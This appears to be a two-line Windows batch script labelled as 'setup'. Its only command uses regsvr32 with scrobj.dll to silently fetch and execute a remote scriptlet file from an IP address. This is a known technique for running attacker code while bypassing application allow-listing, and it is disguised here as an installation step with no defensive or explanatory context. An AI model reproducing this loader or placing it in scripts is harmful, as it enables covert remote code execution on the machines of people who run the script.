REM setup 7222 v0
regsvr32 /s /n /u /i:http://203.0.113.200/file.sct scrobj.dll
